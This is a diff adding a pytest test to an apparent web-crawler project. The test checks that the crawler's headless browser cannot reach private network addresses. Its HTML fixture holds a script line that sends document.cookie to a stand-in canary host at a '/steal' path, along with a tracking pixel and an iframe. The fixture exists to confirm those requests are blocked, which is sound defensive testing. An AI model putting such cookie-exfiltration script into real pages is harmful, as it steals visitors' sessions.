@@ -147,3 +147,53 @@ def test_without_a_browser_the_row_says_so(without_browser, two_sites):
     assert len(spa) == 1 and bool(spa.iloc[0]["needs_browser"]) is True
     assert spa.iloc[0]["phone"] in ("", None)  # what the shell shows: nothing, and the row says why
     assert len(plain) == 1 and bool(plain.iloc[0]["needs_browser"]) is False
+
+
+# -- the browser cannot reach a private address ----------------------------------------------
+CANARY_SHELL = """<!doctype html><html><head><title>Canary Clinic</title></head><body>
+<div id="root"></div>
+<script>
+  document.getElementById("root").innerHTML = "<h1>Canary Clinic</h1><p>Call (512) 555-0110.</p>";
+  fetch("http://CANARY/steal?cookie=" + document.cookie).catch(function () {});
+  var pixel = new Image(); pixel.src = "http://CANARY/pixel.gif";
+  var frame = document.createElement("iframe"); frame.src = "http://CANARY/frame"; document.body.appendChild(frame);
+  fetch("/data.json").then(function (r) { return r.json(); }).then(function (d) {
+    document.getElementById("root").insertAdjacentHTML("beforeend", "<address>" + d.address + "</address>");
+  });
+</script></body></html>"""
+
+
+def test_no_request_of_the_browser_reaches_a_private_address(tmp_path):
+    if chromium_path() is None:
+        pytest.skip("needs Chromium (make browser, or set PROVDIR_CHROMIUM): renders the page that calls out")
+    hits: list[str] = []
+
+    def canary(handler) -> bool:  # a server on a private (loopback) address that counts visits
+        hits.append(handler.path)
+        handler.send_response(204)
+        handler.end_headers()
+        return True
+
+    (tmp_path / "canary").mkdir()
+    with serve_sites({"canary": tmp_path / "canary"}, port=0, first_host=140, behaviours={"canary": canary}) as c:
+        target = c["canary"].split("//", 1)[1].rstrip("/")
+        site = tmp_path / "site"
+        site.mkdir()
+        (site / "index.html").write_text(CANARY_SHELL.replace("CANARY", target), encoding="utf-8")
+        (site / "data.json").write_text(json.dumps({"address": "1200 W 6th St, Austin, TX 78703"}))
+        with serve_sites({"site": site}, port=0, first_host=141) as urls:
+            seeds = write_seeds(tmp_path / "seeds.txt", list(urls.values()))
+            out = tmp_path / "output"
+            with pytest.MonkeyPatch.context() as mp:
+                # Only the site's own address counts as public: the canary's is private.
+                mp.setenv("PROVDIR_ALLOWED_NETWORKS", json.dumps(["127.0.0.141/32"]))
+                proc = run_cli("crawl", str(seeds), "--out", str(out), *FAST)
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    assert hits == []  # nothing ever connected to the private address
+    run = sorted((out / "runs").iterdir())[-1]
+    stats = json.loads((run / "stats.json").read_text())
+    assert stats["netguard/refused/browser"] >= 2  # the fetch and the iframe (the image is refused or aborted)
+    facilities = pd.read_parquet(out / "latest" / "facilities.parquet")
+    row = facilities.iloc[0]
+    # The page's own data request went through Scrapy's downloader and was mounted.
+    assert (row["phone"], row["postal_code"]) == ("+15125550110", "78703")
